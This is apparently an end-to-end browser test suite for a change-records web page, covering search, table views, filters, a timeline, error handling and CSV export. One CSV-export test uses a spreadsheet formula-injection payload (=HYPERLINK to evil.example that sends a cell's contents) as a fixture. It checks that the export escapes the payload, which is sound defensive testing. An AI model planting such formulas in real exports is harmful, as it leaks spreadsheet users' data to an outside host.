import { readFileSync } from 'node:fs'
import type { Page } from 'playwright-core'
import { beforeAll, expect, inject, test } from 'vitest'
import { isFocused } from './support/keyboard.ts'
import { expectNoSidewaysScroll } from './support/layout.ts'
import { incident, ingest as ingestAt } from './support/records.ts'
import { expectAccessible, openAs } from './support/visit.ts'

const ingest = (kind: string, records: object[]) =>
  ingestAt(kind, records, { url: inject('baseUrl'), token: inject('serviceToken') })

const second = (time: string) => Date.parse(`${time}Z`) / 1000
/** A day long before all demo data. */
const DAY = `absolute_selected=true&date_range_start=${second('2021-09-10T00:00')}&date_range_end=${second('2021-09-11T00:00')}`

const manual = (number: number, time: string, fields: object = {}) => ({
  source: 'e2e',
  ticket_id: `CHG-${number}`,
  change_type: 'manual',
  summary: `Replace the gateway certificate of cluster ${number}`,
  actual_start: `2021-09-10T${time}:00Z`,
  services: ['Mobile'],
  data_centers: ['china'],
  cis: ['e2e-gateway, old'],
  ...fields,
})

beforeAll(async () => {
  const description = `${'Nothing to see here. '.repeat(5)}Roll back with the blue switch.`
  await ingest('changes', [
    manual(9001, '08:00', { description, actual_end: '2021-09-10T08:30:00Z' }),
    manual(9002, '14:00'),
    manual(9003, '20:00', { actual_start: null, planned_start: '2021-09-10T20:00:00Z' }),
    {
      source: 'e2e',
      key: 'deployment-1',
      change_type: 'auto',
      summary: 'Deploy mobile',
      description: `Deployment of mobile ${'with care '.repeat(20)}`,
      actual_start: '2021-09-10T13:00:00Z',
      github_owner: 'acme',
      github_repo: 'mobile',
      github_sha: 'cafe0123',
      github_tag: 'v7',
    },
  ])
  const over = { status: 'RESOLVED', end_date: '2021-09-10T15:00:00Z' }
  await ingest('incidents', [incident('OPI-9301', { ...over, start_date: '2021-09-10T14:20:00Z' })])
})

const cards = (page: Page) => page.getByRole('list', { name: 'Changes' }).getByRole('article')
const tickets = async (page: Page) =>
  (await page.getByRole('link', { name: /^CHG-/ }).allTextContents()).map((text) => text.slice(0, 8))

test('changes are found by keyboard, as cards and as a table, marked where they match, with all details', async () => {
  const { page } = await openAs('support', `/changes?${DAY}`)
  await cards(page).nth(2).waitFor()
  await expect.poll(() => tickets(page)).toEqual(['CHG-9003', 'CHG-9002', 'CHG-9001'])
  const states = await cards(page).locator('[data-badge]').allTextContents()
  expect(states.map((text) => text.trim())).toEqual(['Not Started', 'In Progress', 'Completed'])
  await page.getByRole('textbox', { name: 'Keyword' }).focus()
  await page.keyboard.type('BLUE switch')
  await page.keyboard.press('Enter')
  await page.waitForURL(/keywords=BLUE(\+|%20)switch/)
  await page.getByText('Found in Description:').waitFor()
  await expect.poll(() => page.locator('mark').allTextContents()).toEqual(['blue switch'])
  await expectAccessible(page)

  await cards(page).getByRole('button').press('Enter')
  const dialog = page.getByRole('dialog', { name: 'Change CHG-9001' })
  await dialog.getByText('Roll back with the').waitFor()
  await page.waitForURL(/change=\d+/)
  await expectAccessible(page)
  await page.keyboard.press('Escape')
  await dialog.waitFor({ state: 'detached' })
  await expect
    .poll(() => page.evaluate(() => document.activeElement?.textContent))
    .toContain('Replace the gateway')

  await page.getByRole('radio', { name: 'Table' }).press('Space')
  const table = page.getByRole('table', { name: 'Changes' })
  await table.getByRole('columnheader', { name: 'Description of the change' }).waitFor()
  await expectAccessible(page)
  await page.setViewportSize({ width: 1270, height: 800 })
  await expectNoSidewaysScroll(page)
  await page.goto('/changes?record_display_style=table')
  await page
    .getByText(/^Page 1 · 1 to \d\d/)
    .first()
    .waitFor()
  await page.setViewportSize({ width: 1270, height: 360 })
  const box = table.locator('..')
  await box.evaluate((element) => element.scrollTo(0, element.scrollHeight))
  const [boxTop, headerTop, scrolledBy, height] = await box.evaluate((element) => [
    element.getBoundingClientRect().top,
    element.querySelector('th')?.getBoundingClientRect().top,
    element.scrollTop,
    element.clientHeight,
  ])
  expect(headerTop).toBe(boxTop)
  expect(scrolledBy).toBeGreaterThan(0)
  expect(height).toBeLessThan(360)
  await page.setViewportSize({ width: 1269, height: 800 })
  await page.getByRole('button', { name: 'Time range: The last 7 days' }).press('Enter')
  await page.getByRole('textbox', { name: 'The last' }).fill('0')
  await expectAccessible(page)
  await page.keyboard.press('Escape')
  await page.getByRole('button', { name: 'Time range: Enter a number greater than 0' }).press('Enter')
  await page.getByRole('textbox', { name: 'The last' }).fill('8')
  await page.keyboard.press('Escape')
  await page.getByText('Changed, not applied yet').waitFor()
  await expectAccessible(page)
  await table.getByRole('columnheader', { name: 'Description', exact: true }).waitFor()
  await page.setViewportSize({ width: 480, height: 800 })
  await expectNoSidewaysScroll(page)
})

test('what was applied is there on the next visit, and a link finds the same for somebody else', async () => {
  const { page } = await openAs('operator', `/changes?${DAY}&results_per_page=2`)
  await cards(page).nth(1).waitFor()
  await expect.poll(() => page.getByRole('button', { name: 'Previous' }).isDisabled()).toBe(true)
  await page.getByRole('combobox', { name: 'CIs' }).fill('e2e-gate')
  await page.getByRole('option', { name: 'e2e-gateway, old' }).waitFor()
  await page.keyboard.press('ArrowDown')
  await page.keyboard.press('Enter')
  await expectAccessible(page)
  await page.keyboard.press('Escape')
  const saved = page.waitForResponse((response) => response.url().endsWith('/api/update_profile/'))
  await page.getByRole('button', { name: 'Apply' }).click()
  await saved
  const savedView = page.waitForResponse((response) => response.url().endsWith('/api/update_profile/'))
  await page.getByText('Table', { exact: true }).click()
  await savedView
  await page.getByRole('button', { name: 'Next' }).click()
  await page.getByText('Page 2 · 3 to 3').first().waitFor()
  await expect.poll(() => tickets(page)).toEqual(['CHG-9001'])
  await expect.poll(() => page.evaluate(() => document.activeElement?.ariaLabel)).toBe('Results')
  await expect.poll(() => page.getByRole('button', { name: 'Next' }).isDisabled()).toBe(true)
  const link = page.url()

  const other = await openAs('support', link.slice(inject('baseUrl').length))
  await other.page.getByText('Page 2 · 3 to 3').first().waitFor()
  await expect.poll(() => tickets(other.page)).toEqual(['CHG-9001'])

  await page.goto('/changes')
  await page.getByText('Page 1 · 1 to 2').first().waitFor()
  await expect.poll(() => tickets(page)).toEqual(['CHG-9003', 'CHG-9002'])
  await page.getByRole('table', { name: 'Changes' }).waitFor()
  await expect.poll(() => new URL(page.url()).searchParams.get('selected_cis')).toBe('e2e-gateway%2C old')
})

test('a part of the timeline is selected by mouse and by keys, and its incident leads to its page', async () => {
  const { page } = await openAs('support', `/changes?${DAY}`)
  const picture = page.getByRole('region', { name: 'Changes over time' })
  await picture.getByText('Changes: 3 · Incidents: 1').waitFor()
  const plot = picture.getByRole('img')
  const box = await plot.boundingBox()
  if (!box) throw new Error('The picture has no place')
  const drag = async (from: number, to: number) => {
    await page.mouse.move(box.x + box.width * from, box.y + 50)
    await page.mouse.down()
    await page.mouse.move(box.x + box.width * ((from + to) / 2), box.y + 50)
    await page.mouse.move(box.x + box.width * to, box.y + 50)
    await page.mouse.up()
  }
  await drag(0.5, 0.7)
  await picture.getByText('Changes: 1 · Incidents: 1').waitFor()
  await cards(page).first().waitFor()
  await expect.poll(() => tickets(page)).toEqual(['CHG-9002'])
  await picture.getByRole('button', { name: 'Back to the former range' }).click()
  await picture.getByText('Changes: 3 · Incidents: 1').waitFor()

  await picture.getByRole('slider', { name: 'End of the part to look at' }).focus()
  await page.keyboard.press('Home')
  await page.keyboard.press('Shift+ArrowRight')
  await expectAccessible(page)
  await page.keyboard.press('Enter')
  await picture.getByRole('button', { name: 'Back to the former range' }).waitFor()
  await picture.getByText(/Incidents: 0$/).waitFor()
  await page.goBack()
  await picture.getByText('Changes: 3 · Incidents: 1').waitFor()
  await picture.getByRole('button', { name: 'Show as table' }).click()
  await expectAccessible(page)
  await picture.getByRole('link', { name: /OPI-9301, P1, outage/ }).click()
  await page.waitForURL(/\/details\/OPI-9301/)
})

test('nothing found, a failure and a time-out say what to do; what is not right is not applied', async () => {
  const { page, allow } = await openAs('support', '/changes?change_type=auto&keywords=no-such-thing')
  await page.getByText('No Results Found. Please try adjusting your search criteria.').waitFor()
  await page.context().setOffline(true)
  await page.getByRole('button', { name: 'Apply' }).focus()
  await page.getByRole('tooltip', { name: /^You are offline/ }).waitFor()
  await expectAccessible(page)
  await page.context().setOffline(false)
  await page.getByRole('textbox', { name: 'The last' }).fill('0')
  await page.getByRole('button', { name: 'Apply' }).focus()
  await page.getByRole('tooltip', { name: 'Enter a number greater than 0' }).waitFor()
  await expectAccessible(page)
  await page.getByRole('button', { name: 'Reset' }).click()
  await page.getByRole('combobox', { name: 'Change type' }).selectOption('auto')

  allow(/504|Failed to load/)
  const detail = 'The search took too long'
  const timeout = { type: 'about:blank', title: 'Timeout', status: 504, detail, request_id: 'e2e' }
  const broken = { status: 504, contentType: 'application/problem+json', body: JSON.stringify(timeout) }
  await page.route('**/api/search_changes/**', (route) => route.fulfill(broken))
  await page.getByRole('button', { name: 'Apply' }).click()
  await page.getByText('Request timed out. Please filter your results further.').waitFor()
  await page.getByText('Too many to count: narrow the range').waitFor()
  await page.getByRole('alert').filter({ hasText: 'Unable to fetch Change records' }).waitFor()
  await page.getByRole('combobox', { name: 'Change type' }).selectOption('manual')
  await page.getByRole('button', { name: 'Apply' }).click()
  const problem = 'There was a problem fetching your results. Please refresh the page and try again.'
  await page.getByText(problem).waitFor()
})

test('newer changes are announced without moving the list; the page can be downloaded', async () => {
  const { page } = await openAs('support', '/changes?keywords=e2e-newer&relative_time_unit=hours')
  await page.getByText('No Results Found. Please try adjusting your search criteria.').waitFor()
  await page.getByText('Live', { exact: true }).waitFor()
  const now = new Date().toISOString()
  const description = '=HYPERLINK("https://evil.example/?x="&A2,"Click")\nsecond line'
  await ingest('changes', [
    manual(9009, '01:00', { summary: 'An e2e-newer one', description, actual_start: now }),
  ])
  await page.getByRole('button', { name: 'Newer changes: refresh' }).click()
  await cards(page).first().waitFor()
  const downloading = page.waitForEvent('download')
  await page.getByRole('link', { name: 'Download CSV' }).click()
  const download = await downloading
  expect(download.suggestedFilename()).toMatch(/^changes-manual-\d{4}-\d{2}-\d{2}\.csv$/)
  const [header, row] = readFileSync(await download.path(), 'utf8').split('\r\n')
  expect(header).toContain('ticket_id,summary,description,status')
  expect(row).toContain(
    `CHG-9009,An e2e-newer one,"'=HYPERLINK(""https://evil.example/?x=""&A2,""Click"")\nsecond line"`,
  )
})

test('a refused download is reported on the page, which stays', async () => {
  const { page, allow } = await openAs('support', `/changes?${DAY}`)
  await cards(page).nth(2).waitFor()
  const address = page.url()
  const link = page.getByRole('link', { name: 'Download CSV' })
  const problem = { type: 'about:blank', title: 'Refused', detail: 'The database is away', request_id: 'e2e' }
  const refuse = (status: number) =>
    page.route('**/api/search_changes/export/**', (route) =>
      route.fulfill({
        status,
        contentType: 'application/problem+json',
        body: JSON.stringify({ ...problem, status }),
      }),
    )
  allow(/50[34]|Failed to load/)
  await refuse(503)
  await link.focus()
  await page.keyboard.press('Enter')
  const alert = page.getByRole('alert')
  await alert
    .filter({ hasText: 'The file could not be downloaded.' })
    .getByText('The database is away')
    .waitFor()
  await refuse(504)
  await page.keyboard.press('Enter')
  await alert.filter({ hasText: 'Request timed out. Please filter your results further.' }).waitFor()
  await expect.poll(() => isFocused(link)).toBe(true)
  await expect.poll(() => page.url()).toBe(address)
  await expectAccessible(page)
})

test('Apply works after a failed entity search', async () => {
  const { page, allow } = await openAs('support', `/changes?${DAY}`)
  allow(/500/)
  await cards(page).nth(2).waitFor()
  await page.route('**/api/search_change_entity/', (route) =>
    route.fulfill({ status: 500, contentType: 'application/problem+json', body: '{}' }),
  )
  await page.getByRole('textbox', { name: 'Keyword' }).fill('cluster 9002')
  const box = page.getByRole('combobox', { name: 'CIs' })
  await box.fill('ro')
  await page.getByText('The search failed').last().waitFor()
  await page.keyboard.press('Escape')
  const apply = page.getByRole('button', { name: 'Apply' })
  const before = await apply.boundingBox()
  if (!before) throw new Error('Apply does not show')
  await page.mouse.move(before.x + before.width / 2, before.y + 2)
  await page.mouse.down()
  // The layout must not move the button; the tolerance covers the pixel that a pressed button moves down.
  expect(Math.abs(((await apply.boundingBox())?.y ?? 0) - before.y)).toBeLessThan(2)
  await page.mouse.up()
  await page.waitForURL(/keywords=cluster/)
  await cards(page).nth(1).waitFor({ state: 'detached' })
  await expect.poll(() => box.inputValue()).toBe('ro')
})
